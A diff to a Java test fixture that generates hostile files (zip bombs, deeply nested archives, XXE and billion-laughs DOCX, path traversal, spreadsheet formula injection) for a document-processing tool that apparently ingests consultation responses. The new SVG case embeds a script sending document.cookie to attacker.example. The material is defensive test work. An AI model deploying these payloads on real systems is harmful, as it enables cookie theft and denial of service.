@@ -57,6 +57,8 @@ public final class HostileCorpus {
   public static final List<String> PERSONAL_CANARIES = List.of(
       "Margarethe Vollenweider", "Quentin Abernathy-Holt", "m.vollenweider@example-mail.eu",
       "q.abernathy@privatebox.example", "+49 30 5557 1234", "+33 1 55 44 33 22", "Vollenweider", "Abernathy");
+  /** The text at the bottom of {@code HX-ZIP-DEEP}, deeper than Chorus reads: it must not appear in any output. */
+  public static final String TOO_DEEP = "NESTED-TOO-DEEP-TEXT";
   /** The organisation of a PUBLIC respondent: it must stay in submissions.csv. */
   public static final String PUBLIC_ORGANISATION = "Open Models Alliance Europe";
   /** The organisation of an ANONYMOUS respondent: it must not appear in any output. */
@@ -114,6 +116,12 @@ public final class HostileCorpus {
   private static final String TEXT = "We support the transparency measures of the draft Code of Practice. "
       + "Providers of general-purpose AI models should document their training data and publish a "
       + "summary of the copyright policy they follow.";
+
+  /** A Polish response signed from Czechia and Hungary: letters that Windows-1252 would misread. */
+  public static final String CENTRAL_EUROPEAN = "Stanowisko w sprawie kodeksu praktyk: popieramy obowiązki "
+      + "przejrzystości dla dostawców modeli ogólnego przeznaczenia. Źródła danych treningowych muszą być jawne, "
+      + "a mniejsze przedsiębiorstwa powinny mieć łagodniejsze zasady – żądamy też zgłaszania śladów użycia.\n\n"
+      + "Podpisy: Jiří Dvořák (Brno), Zoltán Kővári (Győr).";
 
   private final Path root;
   private final Path files;
@@ -175,7 +183,7 @@ public final class HostileCorpus {
             + "Les fournisseurs doivent publier un résumé des données d’entraînement.", Charset.forName("windows-1252")));
     put("HX-11", "utf-16.txt", utf16("Stellungnahme: Wir begrüßen die Transparenzpflichten für Anbieter "
         + "von KI-Modellen mit allgemeinem Verwendungszweck. Größere Anbieter müssen mehr tun."));
-    put("HX-12", "nested-zip-bomb.zip", zipBomb());
+    put("HX-12", "nested-zip-bomb.zip", zipBomb("volume-%d.zip", "part-%d.zip"));
     put("HX-13", "path-traversal.zip", traversalZip());
     put("HX-14", "xxe.docx", docx(paragraphs(TEXT, "Secret follows: &xxe;"), xxeDoctype("w:document")));
     put("HX-15", "billion-laughs.docx", docx(paragraphs(TEXT, "&lol9;"), laughsDoctype("w:document")));
@@ -202,6 +210,18 @@ public final class HostileCorpus {
     put("HX-25", "line\nbreak in name.txt", utf8(TEXT));
     put("HX-26", "formula-injection.txt", utf8("=HYPERLINK(\"https://attacker.example\",\"click\")\n\n" + TEXT));
     meta.put("HX-26", new String[] {"OTHER", FORMULA_ORGANISATION, "BE", "en", "PUBLIC"});
+    put("HX-ZIP-DEEP", "nested-20-levels.zip", deeplyNestedZip(20));
+    put("HX-ZIP-RENAMED", "renamed-inner-archives.zip", zipBomb("annex-%d.docx", "data-%d.dat"));
+    put("HX-SVG-SCRIPT", "script-and-style.svg", utf8("<?xml version=\"1.0\"?>\n"
+        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\" width=\"400\">"
+        + "<style>text { font: 12px sans-serif } /* SVG-STYLE-PAYLOAD */</style>"
+        + "<script type=\"text/javascript\"><![CDATA[fetch('https://attacker.example/steal?c=' + document.cookie); "
+        + "document.title = 'INJECTED-BY-SVG-SCRIPT';]]></script>"
+        + "<text x=\"0\" y=\"20\" onclick=\"alert('click')\">" + TEXT + "</text>"
+        + "<foreignObject width=\"400\" height=\"40\"><h:div><h:script>alert('INJECTED-BY-SVG-SCRIPT')</h:script>"
+        + "<h:p>Small providers need proportionate obligations.</h:p></h:div></foreignObject></svg>\n"));
+    put("HX-PDF-NO-PAGES", "no-pages.pdf", textPdf(TEXT, 0));
+    put("HX-ENC-1250", "windows-1250.txt", encoded(CENTRAL_EUROPEAN, Charset.forName("windows-1250")));
     personalData();
     namedAfterPeople();
     Files.writeString(root.resolve(CANARY_FILE), CANARY_SECRET + "\n", StandardCharsets.UTF_8);
@@ -435,22 +455,45 @@ public final class HostileCorpus {
     zip.closeEntry();
   }
 
-  /** Five archives of five archives of a 20 MB text each: 0.5 GB from a few hundred kilobytes. */
-  private static byte[] zipBomb() throws IOException {
+  /**
+   * Five archives of five archives of a 20 MB text each: 0.5 GB from a few kilobytes. The inner
+   * archives are named by the two patterns (e.g. {@code volume-%d.zip}, or {@code annex-%d.docx}
+   * for archives that do not say they are).
+   */
+  private static byte[] zipBomb(String outerNames, String innerNames) throws IOException {
     byte[] inner = zipOf("filler.txt", "a".repeat(20 * 1024 * 1024).getBytes(StandardCharsets.US_ASCII));
     ByteArrayOutputStream middle = new ByteArrayOutputStream();
     try (ZipOutputStream zip = new ZipOutputStream(middle)) {
       for (int i = 0; i < 5; i++) {
-        entry(zip, "part-" + i + ".zip", inner);
+        entry(zip, String.format(innerNames, i), inner);
       }
     }
     ByteArrayOutputStream outer = new ByteArrayOutputStream();
     try (ZipOutputStream zip = new ZipOutputStream(outer)) {
       for (int i = 0; i < 5; i++) {
-        entry(zip, "volume-" + i + ".zip", middle.toByteArray());
+        entry(zip, String.format(outerNames, i), middle.toByteArray());
       }
     }
     return outer.toByteArray();
+  }
+
+  /**
+   * Archives in archives, {@code levels} deep and a kilobyte or two in all: a letter on the first
+   * level, {@link #TOO_DEEP} on the last, below the depth Chorus reads.
+   */
+  private static byte[] deeplyNestedZip(int levels) throws IOException {
+    byte[] archive = zipOf("deepest.txt", utf8(TOO_DEEP));
+    for (int level = levels - 1; level >= 1; level--) {
+      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+      try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+        if (level == 1) {
+          entry(zip, "letter.txt", utf8(TEXT));
+        }
+        entry(zip, "level-" + (level + 1) + ".zip", archive);
+      }
+      archive = bytes.toByteArray();
+    }
+    return archive;
   }
 
   private static byte[] zipOf(String name, byte[] content) throws IOException {
